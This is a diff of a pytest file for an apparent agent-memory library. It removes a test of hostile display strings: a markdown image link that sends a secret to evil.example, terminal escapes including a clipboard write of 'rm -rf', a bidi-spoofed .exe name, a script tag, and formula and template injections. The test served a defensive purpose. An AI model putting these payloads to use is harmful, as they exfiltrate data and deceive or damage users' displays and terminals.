@@ -9,13 +9,6 @@ import pytest
 
 from firsthand import Kind, Memory, Outcome, Query, Scope, Trust
 
-DISPLAYS = {
-    "bidi": "abc\u202egnp.exe", "zero width": "pass\u200bword", "tag characters": "hi\U000e0041\U000e0042",
-    "escape": "\x1b[2J\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "clipboard": "\x1b]52;c;cm0gLXJm\x07",
-    "combining marks": "a" + "\u0301" * 10_000, "link": "![x](https://evil.example/?d=secret)",
-    "script": "<script>alert(1)</script>", "formula": "=cmd()", "template": "{{7*7}} %n {} ${x}",
-}  # fmt: skip
-
 
 @pytest.fixture
 def memory(tmp_path):
@@ -45,11 +38,3 @@ def test_a_tools_words_are_not_trusted(memory):
     (hit,) = memory.recall("store this rule")
     assert (hit.trust, hit.origin, hit.kind) == (Trust.UNTRUSTED, "tool:fetch", Kind.TOOL_RESULT)
     assert memory.recall(Query("store this rule", Scope(trust_max=Trust.AGENT))).outcome is Outcome.FILTERED
-
-
-@pytest.mark.parametrize("text", DISPLAYS.values(), ids=DISPLAYS)
-def test_what_would_harm_a_display_is_kept_as_it_came(memory, text):
-    """Invisible signs, escapes, links and templates are bytes of the content, found by the words beside them."""
-    appended = memory.session("s").tool_result("call", f"needle {text}")
-    assert memory.expand(appended) == f"needle {text}".encode()
-    assert [hit.pointer for hit in memory.recall("needle")] == [appended.pointer]
